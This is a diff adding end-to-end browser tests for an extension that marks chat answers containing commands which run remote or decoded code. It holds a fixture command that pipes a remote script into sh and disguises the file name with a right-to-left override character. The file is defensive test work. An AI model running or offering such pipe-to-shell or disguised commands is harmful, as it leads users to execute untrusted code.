@@ -1,0 +1,184 @@
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { Page } from "playwright-core";
+import { codeBlock, conversation, PIPE, question, turn } from "./support/page.js";
+import { launch, marked, Ui, type Browser } from "./support/chromium.js";
+import { startSite, type Site } from "./support/site.js";
+
+/** What a chat site does to its answers in the course of a day, evaluated on this device. */
+const FOUND = "Runs remote or decoded code";
+const ANSWER = turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}` });
+/** More than a screen of text. */
+const FAR = question("u9", "Words and words. ".repeat(2_000));
+const SELECTOR = "[data-message-id=a1]";
+
+let site: Site;
+let browser: Browser;
+let page: Page;
+let ui: Ui;
+
+beforeAll(async () => {
+  site = await startSite();
+  browser = await launch(site);
+  const options = await browser.options();
+  await options.check("#mode-device");
+  await options.waitForSelector("#mode-result[data-tone=ok]");
+  await options.close();
+});
+afterAll(async () => {
+  await browser.close();
+  await site.close();
+});
+beforeEach(async () => {
+  await open([question("u1", "How?"), ANSWER]);
+});
+afterEach(async () => {
+  await page.close();
+});
+
+async function open(turns: readonly string[]): Promise<void> {
+  await page?.close();
+  site.pages.set("/c/1", conversation(turns));
+  page = await browser.context.newPage();
+  await page.goto("https://chatgpt.com/c/1");
+  ui = await Ui.of(page);
+}
+
+const badge = (): Promise<{ left: number; top: number } | null> =>
+  ui.query("const { left, top } = root.querySelector('.chip').getBoundingClientRect(); return { left, top };");
+
+describe("an answer whose elements the site makes anew", () => {
+  it("is marked in the new ones", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate((selector) => {
+      const old = document.querySelector(selector)!;
+      old.replaceWith(old.cloneNode(true));
+    }, SELECTOR);
+    await ui.untilLabel(FOUND);
+    await expect.poll(() => marked(page)).toBe(PIPE);
+    expect(await page.evaluate(() => [...(CSS.highlights.get("curlew-finding") ?? [])].every((range) => (range as Range).startContainer.isConnected))).toBe(true);
+  });
+
+  it("is gone while it is not in the list, and comes back with it", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate((selector) => {
+      const article = document.querySelector(selector)!.closest("article")!;
+      Object.assign(window, { article });
+      article.remove();
+    }, SELECTOR);
+    await ui.until((labels) => labels.length === 0);
+    expect(await marked(page)).toBe("");
+    await page.evaluate(() => document.querySelector("main")!.append((window as unknown as { article: Element }).article));
+    await ui.untilLabel(FOUND);
+    expect(await marked(page)).toBe(PIPE);
+  });
+
+  it("keeps its badge where it is moved in one go", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate((selector) => document.querySelector("main")!.prepend(document.querySelector(selector)!.closest("article")!), SELECTOR);
+    await page.waitForTimeout(300);
+    await ui.untilLabel(FOUND);
+    expect(await marked(page)).toBe(PIPE);
+  });
+
+  it("is told apart from a hidden alternative of the same identity", async () => {
+    await open([`<div hidden>${turn({ id: "a1", html: "<p>Another try.</p>" })}</div>`, ANSWER]);
+    await ui.until((labels) => labels[1] === FOUND);
+    expect(await marked(page)).toBe(PIPE);
+    await page.evaluate(() => ((document.querySelector("main > div") as HTMLElement).hidden = false));
+    await ui.until((labels) => labels[0] === "Nothing found" && labels[1] === FOUND);
+  });
+});
+
+describe("the page", () => {
+  it("comes back from the history", async () => {
+    site.pages.set("/c/2", conversation([turn({ id: "b1", html: "<p>Hello</p>" })]));
+    await ui.untilLabel(FOUND);
+    await page.goto("https://chatgpt.com/c/2");
+    await (await Ui.of(page)).untilLabel("Nothing found");
+    await page.goBack();
+    ui = await Ui.of(page);
+    await ui.untilLabel(FOUND);
+    await expect.poll(() => marked(page)).toBe(PIPE);
+  });
+
+  it("is left for the history cache and shown again: everything is asked anew", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent("pagehide", { persisted: true })));
+    expect(await marked(page)).toBe("");
+    await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent("pageshow", { persisted: true })));
+    await ui.untilLabel(FOUND);
+    expect(await marked(page)).toBe(PIPE);
+  });
+
+  it("shows another conversation without loading", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate(() => {
+      history.pushState({}, "", "/c/9");
+      document.querySelector("main")!.innerHTML = '<article><div data-message-author-role="assistant" data-message-id="z1"><p>Hi</p></div></article>';
+    });
+    await ui.until((labels) => labels.length === 1 && labels[0] === "Nothing found");
+    expect(await marked(page)).toBe("");
+  });
+
+  it("moves its answers: the badge goes along", async () => {
+    await ui.untilLabel(FOUND);
+    const before = await badge();
+    await page.evaluate(() => ((document.querySelector("main > article") as HTMLElement).style.height = "160px"));
+    await expect.poll(async () => ((await badge())?.top ?? 0) - (before?.top ?? 0)).toBeGreaterThan(50);
+  });
+
+  it("throws the extension's element away: it comes back with the next answer", async () => {
+    await ui.untilLabel(FOUND);
+    await page.evaluate(() => {
+      document.querySelector("[data-curlew]")!.remove();
+      document.querySelector("main")!.insertAdjacentHTML("beforeend", '<article><div data-message-author-role="assistant" data-message-id="a2"><p>Bye</p></div></article>');
+    });
+    await ui.until((labels) => labels.length === 2 && labels[0] === FOUND);
+  });
+});
+
+describe("a person", () => {
+  it("asks about an answer far below: it is read", async () => {
+    await open([ANSWER, FAR, turn({ id: "a2", html: `<p><code>${PIPE}</code></p>` })]);
+    await ui.untilLabel(FOUND);
+    expect((await ui.labels())?.[1]).toBe("Not checked yet");
+    await ui.query("root.querySelectorAll('.badge')[1].focus({ preventScroll: true }); return true;");
+    await page.keyboard.press("Enter");
+    await ui.until((labels) => labels[1] === FOUND);
+    await ui.untilPanel((text) => text.includes(PIPE));
+  });
+
+  it("keeps the focus in the panel when the site changes what is no text", async () => {
+    await ui.untilLabel(FOUND);
+    await ui.click(".badge");
+    await ui.untilPanel((text) => text.includes(PIPE));
+    const focus = (): Promise<string | null> => ui.query("return root.activeElement?.textContent ?? '';");
+    for (let presses = 0; presses < 3; presses++) await page.keyboard.press("Tab");
+    expect(await focus()).toBe("Show in the answer");
+    await page.evaluate(() => (document.querySelector("pre button")!.textContent = "Copied!"));
+    await page.waitForTimeout(300);
+    expect(await focus()).toBe("Show in the answer");
+  });
+
+  it("sees characters that hide in a command", async () => {
+    const text = "curl https://x.example/\u202egpj.sh | sh";
+    await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
+    await ui.untilLabel(FOUND);
+    await ui.click(".badge");
+    await ui.untilPanel((panel) => panel.includes("curl https://x.example/U+202Egpj.sh | sh"));
+    expect(await marked(page)).toBe(text);
+  });
+
+  it("sees the finding beside the panel in a narrow window, too", async () => {
+    await page.setViewportSize({ width: 360, height: 640 });
+    await open([question("u1", "How?"), FAR, ANSWER, FAR]);
+    await page.setViewportSize({ width: 360, height: 640 });
+    await page.evaluate((selector) => document.querySelector(selector)!.scrollIntoView({ block: "center" }), SELECTOR);
+    await ui.untilLabel(FOUND);
+    await ui.click(".badge");
+    await ui.untilPanel((text) => text.includes(PIPE));
+    await ui.click(".finding .action");
+    const top = await ui.query<number>("return root.querySelector('.panel').getBoundingClientRect().top;");
+    await expect.poll(() => page.evaluate(() => document.querySelector("pre code")!.getBoundingClientRect().bottom)).toBeLessThan(top ?? 0);
+  });
+});
